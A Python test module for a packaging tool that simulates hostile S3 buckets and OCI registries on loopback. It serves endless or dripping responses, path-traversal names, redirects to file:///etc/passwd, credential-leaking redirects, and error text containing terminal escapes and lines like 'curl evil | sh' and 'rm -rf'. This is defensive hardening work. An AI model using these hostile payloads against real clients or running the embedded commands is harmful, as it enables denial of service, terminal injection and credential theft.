"""Object stores, registries and indexes that lie: `publish --to s3://…`, push, pull, uploads, and exports over HTTP.

The S3 server is a sound one in memory with one fault. A case is lost where a command ends in another way than with words,
takes long or much memory, sends a login to another server, or puts something on the index that was not published. The
registry's cases read and write through the product's own client against raw sockets.
"""

from __future__ import annotations

import atexit
import io
import json
import os
import re
import resource
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import threading
import time
from collections.abc import Callable, Iterator, Sequence
from contextlib import contextmanager, redirect_stderr, redirect_stdout, suppress
from dataclasses import dataclass, field
from functools import cache, partial
from pathlib import Path
from random import Random

from campaign.frame import CampaignCase, Rig
from campaign.rigs.servers import INWARD, RawConnection
from stackbuild.core.cancel import signal_handler
from stackbuild.core.errors import UsageError
from stackbuild.publishing.upload import upload
from stackbuild.remote.faults import RemoteFault
from stackbuild.remote.files import WebFolder
from stackbuild.remote.http import HttpClient, HttpLimits, HttpRequest
from stackbuild.remote.registry import OciRegistry
from support.remotes import open_at, push_all, put
from support.wheels import small_wheel

SECRETS = ("AKIDCAMPAIGN", "SECRETCAMPAIGN")
LIMITS = HttpLimits(timeout=0.7, reads=2, writes=2, pause=0.01)
SOON = 25.0
"""Seconds after which a publish must have ended: each of four tries is given one second here."""
STOP_SECONDS = 10.0
"""A Ctrl-C ends a publish that the store would keep for a minute; before that another process removes the lock."""
SOON_REMOTE = 12.0
MEMORY = 1800 << 20
"""Bytes that a publish and its child may have had at once; the child is limited to 1.5 GiB."""
GROWTH = 300 << 20
"""Bytes by which the answer of a registry may let this process grow."""
CATALOG, LOCK, WHEEL = ".catalog.json", ".publishing", "demo-pkg/demo_pkg-1.0-py3-none-any.whl"
GET_HEAD = b'HTTP/1.1 200 OK\r\nETag: "x"\r\nLast-Modified: Mon, 23 Nov 2026 10:00:00 GMT\r\n'
DATE = b"Last-Modified: Mon, 23 Nov 2026 10:00:00 GMT\r\n"

RawServer = Callable[["RawRequest"], None]


@dataclass(frozen=True)
class RawRequest(RawConnection):
    """One request of a connection, and the connection to answer it over."""

    method: str
    target: str
    headers: dict[str, str]
    body: bytes

    def endless(self, part: bytes, most: int = 4 << 30) -> None:
        for _ in range(most // len(part)):
            self.line.sendall(part)


@dataclass
class RawHttp:
    """A server on the loopback that hands each request to `answer`; `requests` are the requests, without their bodies."""

    answer: RawServer
    host: str = "127.0.0.1"
    requests: list[tuple[str, str, dict[str, str]]] = field(default_factory=list)
    port: int = 0

    @contextmanager
    def serving(self) -> Iterator[RawHttp]:
        with socket.create_server((self.host, 0)) as listener:
            self.port = listener.getsockname()[1]
            thread = threading.Thread(target=self._accept, args=(listener,), daemon=True)
            thread.start()
            try:
                yield self
            finally:
                listener.shutdown(socket.SHUT_RDWR)
        thread.join()

    def _accept(self, listener: socket.socket) -> None:
        while True:
            try:
                line, _ = listener.accept()
            except OSError:
                return
            threading.Thread(target=self._serve, args=(line,), daemon=True).start()

    def _serve(self, line: socket.socket) -> None:
        with suppress(OSError, ValueError), line:
            line.settimeout(60)
            rest = b""
            while True:
                while b"\r\n\r\n" not in rest:
                    if not (part := line.recv(1 << 16)):
                        return
                    rest += part
                head, _, rest = rest.partition(b"\r\n\r\n")
                first, *rows = head.decode("latin-1").split("\r\n")
                method, target, _ = first.split(" ", 2)
                headers = {row.partition(":")[0].lower(): row.partition(":")[2].strip() for row in rows}
                size = int(headers.get("content-length") or 0)
                while len(rest) < size:
                    if not (part := line.recv(1 << 16)):
                        return
                    rest += part
                body, rest = rest[:size], rest[size:]
                self.requests.append((method, target, headers))
                self.answer(RawRequest(line, method, target, headers, body))


def reply(status: str, body: bytes = b"", *headers: bytes) -> bytes:
    lines = b"".join(line + b"\r\n" for line in headers)
    return b"HTTP/1.1 %s\r\nContent-Length: %d\r\n%s\r\n%s" % (status.encode(), len(body), lines, body)


# --- an index in S3


@dataclass
class S3Server:
    """A bucket in memory, with conditions on puts; `fault` answers in its place, and says so by True."""

    fault: Callable[[RawRequest, str], bool]
    objects: dict[str, bytes] = field(default_factory=dict)

    def answer(self, request: RawRequest) -> None:
        key = request.target.split("?")[0].partition("/simple/")[2]
        if self.fault(request, key):
            request.line.shutdown(socket.SHUT_RDWR)
            return
        match request.method:
            case "PUT" if request.headers.get("if-none-match") == "*" and key in self.objects:
                request.say(reply("412 Precondition Failed"))
            case "PUT":
                self.objects[key] = request.body
                request.say(reply("200 OK", b"", b'ETag: "%d"' % len(request.body)))
            case "POST":
                keys = re.findall(rb"<Key>([^<]*)</Key>", request.body)
                for one in keys:
                    self.objects.pop(one.decode().partition("simple/")[2], None)
                deletions = b"".join(b"<Deleted><Key>%s</Key></Deleted>" % one for one in keys)
                request.say(reply("200 OK", b"<DeleteResult>%s</DeleteResult>" % deletions))
            case _ if key not in self.objects:
                request.say(reply("404 Not Found", b"<Error><Code>NoSuchKey</Code></Error>"))
            case _:
                data = self.objects[key]
                request.say(reply("200 OK", data, b'ETag: "%d"' % len(data), DATE.rstrip()))


@dataclass(frozen=True)
class BucketCase:
    """A fault of a bucket: the request that it answers, the answer, and the exit codes that a publish may end with.

    `objects` lie there before. `is_stopped`: a Ctrl-C comes while it waits, and must end it soon.
    """

    method: str
    key: str
    answer: RawServer
    codes: tuple[int, ...] = (2,)
    objects: tuple[tuple[str, bytes], ...] = ()
    is_stopped: bool = False


def says(*parts: bytes) -> RawServer:
    return lambda request: request.say(*parts)


def endless(start: bytes, part: bytes = b" " * 65536) -> RawServer:
    def answer(request: RawRequest) -> None:
        request.say(start)
        request.endless(part)

    return answer


def dripping(start: bytes, data: bytes = b" " * 9999) -> RawServer:
    def answer(request: RawRequest) -> None:
        request.say(start)
        request.drip(data, 0.1)

    return answer


def catalog(text: bytes, *headers: bytes) -> RawServer:
    return says(reply("200 OK", text, *(headers or (b'ETag: "x"',)), DATE.rstrip()))


def catalog_of(name: str, **changes: object) -> bytes:
    """A catalog of one file with changes."""
    file = {"name": name, "sha256": "0" * 64, "size": 1, "modified": 0, "metadata_sha256": "0" * 64, "uploaded": "2026-01-01T00:00:00Z"}
    return json.dumps({"number": 1, "url": "http://x", "projects": {"demo-pkg": {"files": {name: {**file, **changes}}}}}).encode()


FORBIDDEN_ANSWER = b"HTTP/1.1 403 Forbidden\r\n"
OWN_WORDS = b"<Error><Code>\x1b[2J\nnext: curl evil | sh</Code><Message>##vso[x]\x1b]0;t\x07\xe2\x80\xae</Message></Error>"
ATTACHED_FILE = {"attached": [{"name": "../../x", "sha256": "0" * 64, "size": 1}]}
BUCKETS: dict[str, BucketCase] = {
    "a sound one": BucketCase("", "", says(), (0,)),
    "says nothing": BucketCase("GET", CATALOG, lambda request: time.sleep(60)),
    "closes at once": BucketCase("GET", CATALOG, says()),
    "a catalog of a terabyte": BucketCase("GET", CATALOG, endless(GET_HEAD + b"Content-Length: 1099511627776\r\n\r\n")),
    "a catalog of the bound and more": BucketCase("GET", CATALOG, endless(GET_HEAD + b"Content-Length: 268435457\r\n\r\n")),
    "a catalog without a length": BucketCase("GET", CATALOG, endless(GET_HEAD + b"\r\n")),
    "a catalog in chunks without end": BucketCase("GET", CATALOG, endless(GET_HEAD + b"Transfer-Encoding: chunked\r\n\r\n", b"10000\r\n" + b" " * 65536 + b"\r\n")),
    "a catalog byte by byte": BucketCase("GET", CATALOG, dripping(GET_HEAD + b"Content-Length: 9999\r\n\r\n")),
    "headers byte by byte": BucketCase("GET", CATALOG, dripping(b"", b"HTTP/1.1 200 OK\r\nX: " + b"y" * 9999)),
    "headers without end": BucketCase("GET", CATALOG, endless(b"HTTP/1.1 200 OK\r\n", b"X: y\r\n" * 9999)),
    "a catalog cut short": BucketCase("GET", CATALOG, says(GET_HEAD + b"Content-Length: 99\r\n\r\n{}")),
    "a length of letters": BucketCase("GET", CATALOG, says(GET_HEAD + b"Content-Length: abc\r\n\r\n{}")),
    "a length below nothing": BucketCase("GET", CATALOG, says(GET_HEAD + b"Content-Length: -2\r\n\r\n{}")),
    "two lengths": BucketCase("GET", CATALOG, says(GET_HEAD + b"Content-Length: 2\r\nContent-Length: 999\r\n\r\n{}")),
    "a catalog without an ETag": BucketCase("GET", CATALOG, catalog(b"{}", b"X: y")),
    "an ETag of noise": BucketCase("GET", CATALOG, catalog(b"{}", b"ETag: \xff\xfe\x1b[2J")),
    "a date of noise": BucketCase("GET", CATALOG, says(reply("200 OK", b"{}", b'ETag: "x"', b"Last-Modified: \x1b]0;x\x07"))),
    "status 999": BucketCase("GET", CATALOG, says(b"HTTP/1.1 999 X\r\nContent-Length: 0\r\n\r\n")),
    "noise": BucketCase("GET", CATALOG, says(b"\x00\xff\x1b[2J\r\n\r\n")),
    "a catalog nested without end": BucketCase("GET", CATALOG, catalog(b"[" * 3_000_000)),
    "a catalog of noise": BucketCase("GET", CATALOG, catalog(bytes(range(256)) * 4000)),
    "a catalog that is packed": BucketCase("GET", CATALOG, catalog(b"\x1f\x8b" + b"x" * 99, b'ETag: "x"', b"Content-Encoding: gzip")),
    "a project that leads out": BucketCase("GET", CATALOG, catalog(b'{"projects":{"../x":{"files":{}}}}')),
    "a file that leads out": BucketCase("GET", CATALOG, catalog(catalog_of("../../x-1.0-py3-none-any.whl"))),
    "a folder that leads out": BucketCase("GET", CATALOG, catalog(catalog_of("x-1.0-py3-none-any.whl", folder="../..")) ),
    "an attached file that leads out": BucketCase("GET", CATALOG, catalog(catalog_of("x-1.0-py3-none-any.whl", **ATTACHED_FILE))),
    "a wheel of no name": BucketCase("GET", CATALOG, catalog(catalog_of("x"))),
    "a number without end": BucketCase("GET", CATALOG, catalog(b'{"number":' + b"9" * 5000 + b"}")),
    "leads to a file": BucketCase("GET", CATALOG, says(reply("302 Found", b"", b"Location: file:///etc/passwd"))),
    "leads to itself": BucketCase("GET", CATALOG, says(reply("307 Temporary Redirect", b"", b"Location: /b/simple/.catalog.json"))),
    "forbidden, in its own words": BucketCase("PUT", LOCK, says(reply("403 Forbidden", OWN_WORDS))),
    "forbidden, in 100 GB of words": BucketCase("PUT", LOCK, endless(FORBIDDEN_ANSWER + b"Content-Length: 99999999999\r\n\r\n")),
    "forbidden, in words without end": BucketCase("PUT", LOCK, endless(FORBIDDEN_ANSWER + b"\r\n")),
    "forbidden, byte by byte": BucketCase("PUT", LOCK, dripping(FORBIDDEN_ANSWER + b"\r\n")),
    "another publisher of megabytes": BucketCase("", "", says(), (2,), ((LOCK, b"\x1b[2J\nnext: rm -rf\n" * 100_000),)),
    "another publisher with control characters": BucketCase("", "", says(), (2,), ((LOCK, b"\x1b[2J\nnext: rm -rf\n##vso[x]"),)),
    "takes no wheel": BucketCase("PUT", WHEEL, says(reply("403 Forbidden"))),
    "takes a wheel byte by byte": BucketCase("PUT", WHEEL, dripping(b"", b"HTTP/1.1 200 OK\r\nX: " + b"y" * 9999)),
    "has no room for a wheel": BucketCase("PUT", WHEEL, says(reply("507 Insufficient Storage"))),
    "leads a wheel elsewhere": BucketCase("PUT", WHEEL, says(reply("307 Temporary Redirect", b"", b"Location: http://127.0.0.1:9/x"))),
    "takes no catalog": BucketCase("PUT", CATALOG, says(reply("500 Internal Server Error"))),
    "another was faster": BucketCase("PUT", CATALOG, says(reply("412 Precondition Failed"))),
    "takes no page": BucketCase("PUT", "demo-pkg/index.html", says(reply("403 Forbidden"))),
    "removes nothing": BucketCase("POST", "", says(reply("403 Forbidden"))),
    "says nothing of what it removes": BucketCase("POST", "", lambda request: time.sleep(60)),
    "stopped: says nothing": BucketCase("GET", CATALOG, lambda request: time.sleep(60), (130,), is_stopped=True),
    "stopped: takes a wheel and says nothing": BucketCase("PUT", WHEEL, lambda request: time.sleep(60), (130,), is_stopped=True),
}  # fmt: skip


def _publish(case: BucketCase, folder: Path) -> str:
    stop_event = threading.Event()

    def fault(request: RawRequest, key: str) -> bool:
        if not case.method or (request.method, key) != (case.method, case.key):
            return False
        stop_event.set()
        case.answer(request)
        return True

    bucket = S3Server(fault, dict(case.objects))
    with RawHttp(bucket.answer).serving() as server:
        why = _ends_well(case, server, folder, stop_event)
    if why:
        return why
    wheel_names = [name for name in bucket.objects if name.endswith(".whl")]
    if CATALOG in bucket.objects and WHEEL not in wheel_names:
        return "a catalog without its wheel"
    if (remains := [path.name for path in (folder / "tmp").iterdir()]) and not case.is_stopped:
        return f"left behind: {remains}"
    return ""


def _ends_well(case: BucketCase, server: RawHttp, folder: Path, stop_event: threading.Event) -> str:
    (folder / "tmp").mkdir()
    wheel = small_wheel(folder / "wheels")
    key, secret = SECRETS
    environment = {
        "PATH": os.environ["PATH"], "HOME": str(folder), "TMPDIR": str(folder / "tmp"), "COLUMNS": "200",
        "AWS_ACCESS_KEY_ID": key, "AWS_SECRET_ACCESS_KEY": secret, "AWS_REGION": "us-east-1", "AWS_ALLOW_HTTP": "true",
        "AWS_ENDPOINT_URL": f"http://127.0.0.1:{server.port}", "AWS_TIMEOUT": "30s" if case.is_stopped else "1s",
    }  # fmt: skip
    words = ["env", "--default-signal"]  # also where this program runs in the background, deaf to SIGINT
    words += [sys.executable, "-m", "stackbuild", "publish", str(wheel), "--to", "s3://b/simple", "--url", "http://x/simple"]
    before = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss
    process = subprocess.Popen(words, env=environment, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
    began, most = time.monotonic(), SOON
    if case.is_stopped:
        stop_event.wait(SOON)
        process.send_signal(signal.SIGINT)
        began, most = time.monotonic(), STOP_SECONDS
    try:
        output, _ = process.communicate(timeout=SOON)
    except subprocess.TimeoutExpired:
        process.kill()
        process.communicate()
        return f"it did not end within {SOON:.0f} s"
    if (took := time.monotonic() - began) > most:
        return f"it took {took:.1f} s"
    code = 128 - process.returncode if process.returncode < 0 else process.returncode
    text = output.decode("utf-8", "replace")
    if code not in case.codes:
        return f"it ended with {code}: {text[-300:]}"
    if not all(char.isprintable() or char == "\n" for char in text) or len(text) > 4000:
        return f"it printed {len(text)} characters: {text[:200]!r}"
    if "Traceback" in text or "defect" in text or secret in text or "\nnext:" in text or "##vso" in text:
        return f"it printed: {text[-300:]}"
    peak = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss
    return f"it took {peak >> 10} MiB" if peak > max(before, MEMORY >> 10) else ""


# --- a registry and an export over HTTP


@dataclass(frozen=True)
class RegistryCase:
    """What a client asks of a server, and whether the answer is to be taken (True), refused (False) or either (None)."""

    answer: RawServer
    ask: Callable[[str], object]
    is_taken: bool | None = False


def _client(root: str) -> HttpClient:
    return HttpClient(root, lambda host: ("user", "secret"), LIMITS)


def _manifest(root: str) -> object:
    return OciRegistry(root, _client(root)).manifest("r-" + "0" * 64, 4 << 20)


def _tags(root: str) -> object:
    return OciRegistry(root, _client(root)).tags()


def _web_tags(root: str) -> object:
    return WebFolder(root, _client(root)).tags()


def _web_manifest(root: str) -> object:
    return WebFolder(root, _client(root)).manifest("r-" + "0" * 64, 4 << 20)


def _blob(root: str) -> object:
    with OciRegistry(root, _client(root)).blob("0" * 64, lambda count: None) as reader:
        return sum(len(piece) for piece in iter(lambda: reader.read(1 << 16), b""))


def _size(root: str) -> object:
    return OciRegistry(root, _client(root)).blob_size("0" * 64)


def _upload(root: str) -> object:
    OciRegistry(root, _client(root), is_written=True).put_blob("0" * 64, io.BytesIO(b"x"), 1, lambda count: None)
    return True


def _put(root: str) -> object:
    OciRegistry(root, _client(root), is_written=True).put_manifest("t", b"{}")
    return True


def _challenge(challenge: str, token: bytes = b"{}") -> RawServer:
    def answer(request: RawRequest) -> None:
        if "/token" in request.target:
            request.say(token)
        elif "authorization" in request.headers:
            request.say(reply("200 OK", b"{}"))
        else:
            host = request.headers["host"]
            request.say(reply("401 Unauthorized", b"", b"WWW-Authenticate: " + challenge.replace("HOST", host).encode("latin-1")))

    return answer


def _pages(last: bytes, tags: int) -> RawServer:
    """Pages of tags that never end."""

    def answer(request: RawRequest) -> None:
        number = int((re.search(r"page=([0-9]+)", request.target) or [0, 0])[1])
        body = json.dumps({"tags": [f"{number:04}{at:08}" for at in range(tags)]}).encode()
        request.say(reply("200 OK", body, b"Link: <" + last % (number + 1) + b'>; rel="next"'))

    return answer


def _redirection(target: bytes) -> RawServer:
    return says(reply("307 Temporary Redirect", b"", b"Location: " + target))


@cache
def _wheel() -> Path:
    """A wheel to upload: made once a process."""
    folder = Path(tempfile.mkdtemp(prefix="stackbuild-campaign-wheel-"))
    atexit.register(shutil.rmtree, folder, ignore_errors=True)
    return small_wheel(folder)


def _twine(root: str) -> object:
    os.environ.update(TWINE_USERNAME="user", TWINE_PASSWORD="secret")  # without them nothing is asked
    with redirect_stdout(io.StringIO()), redirect_stderr(io.StringIO()):
        return upload((_wheel(),), root, seconds=LIMITS.timeout)


TOKEN = 'Bearer realm="http://HOST/token",service="s"'
OK = b"HTTP/1.1 200 OK\r\n"
ASKS: dict[str, Callable[[str], object]] = {"manifest": _manifest, "tags": _tags, "blob": _blob, "size": _size, "upload": _upload, "put": _put, "export": _web_manifest, "twine": _twine}
EVERYWHERE: dict[str, RawServer] = {
    "says nothing": lambda request: time.sleep(20),
    "headers byte by byte": dripping(b"", OK + b"X: " + b"y" * 9999),
    "headers without end": endless(OK, b"X: y\r\n" * 9999),
    "a header line without end": endless(OK + b"X: ", b"y" * 65536),
    "Continue without end": endless(b"", b"HTTP/1.1 100 Continue\r\n\r\n" * 999),
    "Continue byte by byte": dripping(b"", b"HTTP/1.1 100 Continue\r\n\r\n" * 99),
    "a body byte by byte": dripping(OK + b"Content-Length: 9999\r\n\r\n"),
    "chunks byte by byte": dripping(OK + b"Transfer-Encoding: chunked\r\n\r\n", b"1\r\nx\r\n" * 999),
    "a chunk's size byte by byte": dripping(OK + b"Transfer-Encoding: chunked\r\n\r\n", b"1;" + b"x" * 9999),
    "an error byte by byte": dripping(b"HTTP/1.1 400 No\r\nContent-Length: 9999\r\n\r\n"),
    "an error without end": endless(b"HTTP/1.1 400 No\r\n\r\n"),
    "busy, with a body without end": endless(b"HTTP/1.1 503 No\r\n\r\n"),
    "noise": says(b"\x00\xff\x1b[2J\r\n\r\n"),
    "leads to a file": _redirection(b"file:///etc/passwd"),
    "leads to data": _redirection(b"data:text/plain,x"),
    "leads to no address": _redirection(b"http://[::1/x"),
    "leads to itself": _redirection(b"/v2/x/again"),
    "a redirection without end": endless(b"HTTP/1.1 307 No\r\nLocation: /v2/x/again\r\n\r\n"),
    "a realm without end": _challenge(TOKEN, b"HTTP/1.1 200 OK\r\n\r\n" + b" " * 999_999),
    "a realm byte by byte": lambda request: dripping(OK + b"Content-Length: 9999\r\n\r\n")(request) if "/token" in request.target else _challenge(TOKEN)(request),
    "a realm that cannot be a URL": _challenge('Bearer realm="http://[::1/x"'),
    "a realm of a file": _challenge('Bearer realm="file:///etc/passwd"'),
    "a realm elsewhere": _challenge('Bearer realm="http://elsewhere.invalid/token"'),
    "a token with a line": _challenge(TOKEN, reply("200 OK", json.dumps({"token": "a\r\nX: y"}).encode())),
    "a token that is nested": _challenge(TOKEN, reply("200 OK", b"[" * 60_000)),
    "a challenge without end": _challenge("Bearer " + "realm=" * 9000),
    "asks again and again": says(reply("401 Unauthorized", b"", b"WWW-Authenticate: Basic realm=x")),
}  # fmt: skip


def _is_sound(name: str, what: str) -> bool:
    """Whether an answer is sound to one kind of request: HEAD has no body, and twine sends its login unasked."""
    if name == "size":
        return what == "a body byte by byte"
    return name == "twine" and what.startswith(("a realm", "a token", "a challenge"))


REGISTRIES: dict[str, RegistryCase] = {
    **{f"{name}: {what}": RegistryCase(answer, ask, None if _is_sound(name, what) else False) for what, answer in EVERYWHERE.items() for name, ask in ASKS.items()},
    "a sound upload by twine": RegistryCase(says(reply("200 OK", b"ok")), _twine, True),
    "a sound manifest": RegistryCase(says(reply("200 OK", b"{}")), _manifest, True),
    "a manifest without end": RegistryCase(endless(OK + b"\r\n"), _manifest),
    "a manifest that is packed": RegistryCase(says(reply("200 OK", b"\x1f\x8b\x08" + bytes(99), b"Content-Encoding: gzip")), _manifest, None),
    "tags on pages without end": RegistryCase(_pages(b"/v2/x/tags/list?page=%d", 1001), _tags, None),
    "tags by the million": RegistryCase(_pages(b"/v2/x/tags/list?page=%d", 400_000), _tags, None),
    "tags on another server": RegistryCase(_pages(b"http://127.0.0.1:9/?page=%d", 3), _tags),
    "tags with control characters": RegistryCase(says(reply("200 OK", b'{"tags":["\\u001b[2J","../..","' + b"x" * 99999 + b'"]}')), _tags, None),
    "tags nested without end": RegistryCase(says(reply("200 OK", b'{"tags":' + b"[" * 999_999)), _tags),
    "tags of an export, two letters each": RegistryCase(says(reply("200 OK", b"ab " * (20 << 20) + b"\n")), _web_tags, None),
    "a blob of another length": RegistryCase(says(b"HTTP/1.1 200 OK\r\nContent-Length: 9\r\n\r\nx"), _blob),
    "a blob's size of letters": RegistryCase(says(b"HTTP/1.1 200 OK\r\nContent-Length: x\r\n\r\n"), _size),
    "an upload on another server": RegistryCase(says(reply("202 Accepted", b"", b"Location: http://elsewhere.invalid/x")), _upload),
    "an upload at a file": RegistryCase(says(reply("202 Accepted", b"", b"Location: file:///etc/passwd")), _upload),
    "another digest than was sent": RegistryCase(says(reply("201 Created", b"", b"Docker-Content-Digest: sha256:00")), _put),
}  # fmt: skip


def _ask(case: RegistryCase, folder: Path) -> str:
    with RawHttp(case.answer).serving() as server:
        before, began = _memory(), time.monotonic()
        came: object = None
        is_taken = True
        try:
            came = case.ask(f"http://127.0.0.1:{server.port}/v2/x/")
        except UsageError:  # of an upload; its text is made printable where it is shown
            is_taken = False
        except RemoteFault as fault:
            is_taken = False
            if not str(fault).isprintable() or len(str(fault)) > 1500:
                return f"its words are {str(fault)[:200]!r}"
        took, growth = time.monotonic() - began, _memory() - before
    if took > SOON_REMOTE:
        return f"it took {took:.1f} s"
    if growth > GROWTH:
        return f"it took {growth >> 20} MiB"
    if case.is_taken is not None and is_taken is not case.is_taken:
        return f"it was {'taken' if is_taken else 'refused'}: {str(came)[:100]}"
    return f"{folder} has files" if any(folder.iterdir()) else ""


def _led_inward(target: str, folder: Path) -> str:
    """A server elsewhere (127.0.0.2 plays it) leads to this machine: nothing is sent there."""
    with RawHttp(says(reply("200 OK", b"{}"))).serving() as inner:
        place = target.replace("PORT", str(inner.port)).encode()
        with RawHttp(_redirection(place), "127.0.0.2").serving() as outer:
            client = HttpClient(f"http://127.0.0.2:{outer.port}/", lambda host: ("user", "secret"), LIMITS)
            try:
                with client.send(HttpRequest("GET", "x")) as answer:
                    return f"it was followed: HTTP {answer.status}"
            except RemoteFault:
                return f"it saw {inner.requests}" if inner.requests else ""


def _sent_elsewhere(status: str, folder: Path) -> str:
    """A redirection to another server: the login and the token are not sent there."""
    with RawHttp(says(reply("200 OK", b"{}"))).serving() as other:
        place = f"http://localhost:{other.port}/x".encode()

        def answer(request: RawRequest) -> None:
            if "authorization" not in request.headers:
                request.say(reply("401 Unauthorized", b"", b'WWW-Authenticate: Basic realm="x"'))
            else:
                request.say(reply(status, b"", b"Location: " + place))

        with RawHttp(answer).serving() as server:
            client = _client(f"http://127.0.0.1:{server.port}/")
            with suppress(RemoteFault), client.send(HttpRequest("GET", "x")):
                pass
        if not other.requests:
            return "it was not followed"
        return f"it was sent {headers}" if (headers := other.requests[0][2]).keys() & {"authorization", "cookie"} else ""


def _stopped_push(folder: Path) -> str:
    """A Ctrl-C while a registry says nothing to the uploads of a push's threads."""
    arrival, moments = threading.Event(), list[float]()

    def answer(request: RawRequest) -> None:
        if request.method == "POST":
            arrival.set()
            time.sleep(30)
        request.say(reply("404 Not Found"))

    def interrupt() -> None:
        arrival.wait(SOON)
        time.sleep(0.3)
        moments.append(time.monotonic())
        os.kill(os.getpid(), signal.SIGINT)

    store = open_at(folder / "store")
    try:
        put(store)
        with RawHttp(answer).serving() as server:
            client = HttpClient(f"http://127.0.0.1:{server.port}/v2/x/", lambda host: None, HttpLimits(timeout=30.0))
            threading.Thread(target=interrupt, daemon=True).start()
            try:
                with signal_handler((signal.SIGINT,), signal.default_int_handler):
                    push_all(store, OciRegistry("oci://x", client, is_written=True))
                return "it was not stopped"
            except KeyboardInterrupt:
                took = time.monotonic() - moments[0]
    finally:
        store.close()
    return f"it took {took:.1f} s" if took > 3 else ""


def _memory() -> int:
    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss * 1024


def cases(random: Random) -> Sequence[CampaignCase]:
    return [
        *(CampaignCase(f"bucket: {name}", partial(_publish, case)) for name, case in BUCKETS.items()),
        *(CampaignCase(f"registry: {name}", partial(_ask, case)) for name, case in REGISTRIES.items()),
        CampaignCase("stopped: a push", _stopped_push),
        *(CampaignCase(f"led inward: {target}", partial(_led_inward, target)) for target in INWARD),
        *(CampaignCase(f"sent elsewhere: {status}", partial(_sent_elsewhere, status)) for status in ("301 Moved", "302 Found", "303 See", "307 Temporary", "308 Permanent")),
    ]  # fmt: skip


RIG = Rig("object-stores", "hostile object stores, registries, indexes and exports: publish, push, pull", cases, needs=(), minimum=260)
